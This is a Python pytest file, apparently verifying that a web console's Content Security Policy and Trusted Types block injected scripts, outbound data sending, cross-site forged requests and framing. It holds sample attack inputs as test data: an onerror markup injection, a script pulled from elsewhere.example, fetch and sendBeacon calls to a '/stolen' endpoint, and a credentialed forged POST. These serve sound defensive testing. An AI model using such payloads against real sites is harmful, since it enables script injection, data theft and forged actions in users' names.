"""Story 22: what is not the console's own does not run, and reaches nobody.

That no story violates the policy is seen by the guard, in all of them.
"""

import pytest

from tests.support.local_server import local_server

REFUSED = {
    "markup with a handler": "document.body.insertAdjacentHTML('beforeend', '<img onerror=x>')",
    "a script in the page": "const one = document.createElement('script');"
    " one.textContent = 'window.ran = 1'; document.head.append(one)",
    "a script of others": "const one = document.createElement('script');"
    " one.src = 'https://elsewhere.example/a.js'; document.head.append(one)",
    "text as code": "window.ran = (0, eval)('1')",
    "a policy of its own": "trustedTypes.createPolicy('mine', {createHTML: (one) => one})",
}
TRIED = """() => new Promise((done) => setTimeout(() => {
  try { CODE; done("nothing") } catch (error) { done(error.name) }
}))"""


@pytest.fixture
def window(desk):
    """The board, in which somebody has found a way to do what the console does not."""
    window = desk.sit(route="deal/default")
    window.sees("Deal", "heading")
    window.guard.allow("CSP", "Content Security Policy", "TrustedHTML", "TrustedScript", "policy")
    return window


def test_no_code_runs_that_is_not_the_consoles(window):
    came = {}
    for way, code in REFUSED.items():
        # From a timer: what the test itself evaluates is exempt from the policy.
        caught = window.page.evaluate(TRIED.replace("CODE", code))
        came[way] = (caught, window.page.evaluate("() => window.ran"))

    refused = (("TypeError", None), ("EvalError", None))
    assert {} == {way: what for way, what in came.items() if what not in refused}


@pytest.mark.parametrize("way", ["fetch(URL)", "navigator.sendBeacon(URL, document.title)"])
def test_nothing_can_be_sent_elsewhere(window, way):
    with local_server() as elsewhere:
        send = way.replace("URL", f"'{elsewhere.url}/stolen'")
        window.page.evaluate(f"async () => {{ try {{ await {send} }} catch {{ }} }}")
        window.page.wait_for_function("() => document.readyState === 'complete'")

    assert [] == elsewhere.asked
    assert any("CSP: connect-src" in fault for fault in window.guard.faults)


FORGED = """async (url) => {
  const send = (type, more) => fetch(url, {
    method: "POST", credentials: "include", body: '{"title": "Forged"}',
    headers: {"Content-Type": type}, ...more
  });
  await send("text/plain", {mode: "no-cors"});
  return send("application/json", {}).then(() => "sent", () => "refused");
}"""
PAGE = b"<!doctype html><title>Others</title><iframe src=CONSOLE></iframe>"
HTML = {"Content-Type": "text/html"}


def test_a_page_of_others_does_nothing_in_somebodys_name(window, crm):
    with local_server() as others:
        others.body, others.headers = (
            b"<!doctype html><title>a</title>",
            {"Content-Type": "text/html"},
        )
        window.guard.allow(others.url, "CORS policy")
        page = window.context.new_page()
        page.goto(others.url)
        assert "refused" == page.evaluate(FORGED, f"{window.url}/v1/items/deal")

    assert [] == crm.ask("GET", "/v1/items/deal")["items"]


def test_the_console_stands_in_no_frame(window):
    with local_server() as others:
        others.headers = HTML
        others.body = PAGE.replace(b"CONSOLE", f"{window.url}/console".encode())
        window.guard.allow(others.url, "frame")
        page = window.context.new_page()
        page.goto(others.url)
        (_, framed) = page.frames
        assert framed.url.startswith("chrome-error:")
